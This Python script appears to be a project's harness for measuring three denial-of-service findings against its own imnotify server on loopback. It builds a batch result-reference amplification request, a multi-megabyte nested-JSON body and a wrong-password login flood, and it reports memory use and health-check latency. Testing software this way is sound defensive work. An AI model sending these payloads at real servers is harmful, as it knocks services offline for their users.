#!/usr/bin/env python3
"""The three high findings of issue 10, measured: time to answer, the server's peak RSS, and
/healthz latency while the attack runs. Loopback only; every loop is bounded in count and time.

    scripts/attack-measure.py BINARY [--scale 1.0]

BINARY is an imnotify executable (debug or release). The server runs with the default
configuration (limits on) on 127.0.0.1 with a fresh data directory. Attackers connect from
127.0.0.2, the healthy client from 127.0.0.1. --scale shrinks the attacks for slow builds.
Prints one Markdown table row per attack.
"""
import argparse
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse


def vm(pid, field):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    return 0


def http(addr, method, path, body=b"", headers=(), src="127.0.0.1", timeout=120):
    """One request on its own connection; returns (status, body bytes, seconds)."""
    started = time.monotonic()
    s = socket.socket()
    s.settimeout(timeout)
    s.bind((src, 0))
    s.connect(addr)
    head = f"{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
    for k, v in headers:
        head += f"{k}: {v}\r\n"
    head += f"Content-Length: {len(body)}\r\n\r\n"
    try:
        s.sendall(head.encode() + body)
    except OSError:
        pass  # answered before the body was read
    chunks = []
    try:
        while True:
            c = s.recv(1 << 20)
            if not c:
                break
            chunks.append(c)
    except OSError:
        pass
    s.close()
    raw = b"".join(chunks)
    m = re.match(rb"HTTP/1\.[01] (\d+)", raw)
    status = int(m.group(1)) if m else 0
    return status, raw.split(b"\r\n\r\n", 1)[-1], time.monotonic() - started


class Server:
    def __init__(self, binary):
        self.dir = tempfile.mkdtemp(prefix="attack-measure-")
        env = dict(os.environ, IMNOTIFY_LOG__FILTER="warn")
        env.pop("IMNOTIFY_DATA_DIR", None)
        self.proc = subprocess.Popen(
            [binary, "serve", "--listen", "127.0.0.1:0", "--data-dir", self.dir + "/data"],
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=env, text=True)
        base = hook = None
        for line in self.proc.stdout:
            if line.startswith("imnotify listening on "):
                base = line.split()[-1]
            if line.startswith("Webhook: "):
                hook = line.split()[-1]
                break
        threading.Thread(target=lambda: [None for _ in self.proc.stdout], daemon=True).start()
        host, port = base.removeprefix("http://").split(":")
        self.addr = (host, int(port))
        self.hook = hook.removeprefix(base)
        self.binary = binary

    def cli(self, *args):
        subprocess.run([self.binary, *args, "--data-dir", self.dir + "/data"], check=True,
                       stdout=subprocess.DEVNULL)

    def stop(self):
        self.proc.kill()
        self.proc.wait()
        shutil.rmtree(self.dir, ignore_errors=True)


def during(server, attack):
    """Runs attack() while probing /healthz every 250 ms and sampling RSS every 20 ms."""
    pid = server.proc.pid
    idle = vm(pid, "VmRSS")
    stop = threading.Event()
    worst = [0.0]
    peak = [idle]

    def probe():
        while not stop.is_set():
            try:
                _, _, t = http(server.addr, "GET", "/healthz", timeout=120)
            except OSError:
                t = float("inf")
            worst[0] = max(worst[0], t)
            stop.wait(0.25)

    def sample():
        while not stop.is_set():
            try:
                peak[0] = max(peak[0], vm(pid, "VmRSS"))
            except OSError:
                return
            time.sleep(0.02)

    threads = [threading.Thread(target=probe), threading.Thread(target=sample)]
    for t in threads:
        t.start()
    try:
        out = attack()
    finally:
        stop.set()
        for t in threads:
            t.join()
    after = vm(pid, "VmRSS") if server.proc.poll() is None else 0
    return out, worst[0], idle, peak[0], after


def row(name, answer, worst, idle, peak, after):
    print(f"| {name} | {answer} | {peak / 1024:.0f} MiB (idle {idle / 1024:.0f}) | "
          f"{worst * 1000:.0f} ms | {after / 1024:.0f} MiB |", flush=True)


def batch_attack(server, scale):
    big = "x" * 50_000
    n = 50  # cheap to set up at any scale: the amplification is the point
    adds = "&".join(
        f"cmd[a{i}]=" + urllib.parse.quote(
            "im.notify.system.add?" + urllib.parse.urlencode({"USER_ID": 1, "MESSAGE": f"{i} {big}"}))
        for i in range(n))
    st, body, _ = http(server.addr, "POST", server.hook + "batch", adds.encode(),
                       [("Content-Type", "application/x-www-form-urlencoded")])
    assert st == 200, (st, body[:300])
    refs = "&".join(f"x{i}=$result[a]" for i in range(100))
    attack = "cmd[a]=im.notify.get&cmd[b]=" + urllib.parse.quote(f"server.time?{refs}")

    def go():
        return http(server.addr, "POST", server.hook + "batch", attack.encode(),
                    [("Content-Type", "application/x-www-form-urlencoded")])
    (st, body, t), worst, idle, peak, after = during(server, go)
    code = json.loads(body).get("error", "ok") if st and body[:1] == b"{" else "-"
    row(f"batch: {len(attack)} B, 100 × $result[a] over {n} × 50 KB", f"{st} {code} in {t:.2f} s",
        worst, idle, peak, after)

    fan = "&".join(f"cmd[c{i}]=im.notify.get" for i in range(50))

    def go2():
        return http(server.addr, "POST", server.hook + "batch", fan.encode(),
                    [("Content-Type", "application/x-www-form-urlencoded")])
    (st, body, t), worst, idle, peak, after = during(server, go2)
    row(f"batch: 50 × im.notify.get ({len(fan)} B)", f"{st}, {len(body) / 1e6:.1f} MB in {t:.2f} s",
        worst, idle, peak, after)


def json_attack(server, scale):
    nodes = int(2_700_000 * scale)
    body = ("[" + ",".join(["[]"] * nodes) + "]").encode()
    times = []
    statuses = {}
    deadline = time.monotonic() + 15

    def client():
        for _ in range(5):
            if time.monotonic() > deadline:
                return
            st, _, t = http(server.addr, "POST", "/rest/server.time", body,
                            [("Content-Type", "application/json")], src="127.0.0.2")
            times.append(t)
            statuses[st] = statuses.get(st, 0) + 1

    def go():
        ts = [threading.Thread(target=client) for _ in range(4)]
        for t in ts:
            t.start()
        for t in ts:
            t.join()
    _, worst, idle, peak, after = during(server, go)
    times.sort()
    row(f"unauthenticated JSON: {len(body) / 1e6:.1f} MB `[[],...]`, 4 clients × 5",
        f"{dict(sorted(statuses.items()))}, median {times[len(times) // 2]:.2f} s, "
        f"worst {times[-1]:.2f} s", worst, idle, peak, after)


def login_attack(server, scale):
    server.cli("user", "add", "--id", "2", "--name", "U", "--password", "right horse battery")
    # Newer builds want the login form's CSRF token and cookie; older ones ignore them.
    s = socket.create_connection(server.addr)
    s.sendall(b"GET /login HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    page = b""
    while chunk := s.recv(65536):
        page += chunk
    s.close()
    csrf = re.search(rb'name="csrf" value="([^"]*)"', page)
    cookie = re.search(rb"Set-Cookie: ([^=;]+=[^;\r]*)", page, re.I)
    fields = {"login": "2", "password": "wrong", "next": "/"}
    headers = [("Content-Type", "application/x-www-form-urlencoded")]
    if csrf and cookie:
        fields["csrf"] = csrf.group(1).decode()
        headers.append(("Cookie", cookie.group(1).decode()))
    form = urllib.parse.urlencode(fields).encode()
    conns = max(4, int(200 * scale))
    deadline = time.monotonic() + 10
    times = []
    statuses = {}

    def client():
        while time.monotonic() < deadline:
            try:
                st, _, t = http(server.addr, "POST", "/login", form, headers,
                                src="127.0.0.2", timeout=60)
            except OSError:
                st, t = 0, 0.0
            times.append(t)
            statuses[st] = statuses.get(st, 0) + 1

    def go():
        ts = [threading.Thread(target=client) for _ in range(conns)]
        for t in ts:
            t.start()
        for t in ts:
            t.join()
    _, worst, idle, peak, after = during(server, go)
    times.sort()
    row(f"login: {conns} connections posting wrong passwords for 10 s",
        f"{dict(sorted(statuses.items()))}, median {times[len(times) // 2]:.3f} s",
        worst, idle, peak, after)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("binary")
    p.add_argument("--scale", type=float, default=1.0)
    p.add_argument("--only", choices=["batch", "json", "login"])
    a = p.parse_args()
    print("| attack | answer | peak RSS | worst /healthz during | RSS after |")
    print("|---|---|---|---|---|")
    for name, f in [("batch", batch_attack), ("json", json_attack), ("login", login_attack)]:
        if a.only and a.only != name:
            continue
        server = Server(a.binary)
        try:
            f(server, a.scale)
        finally:
            server.stop()


if __name__ == "__main__":
    sys.exit(main())
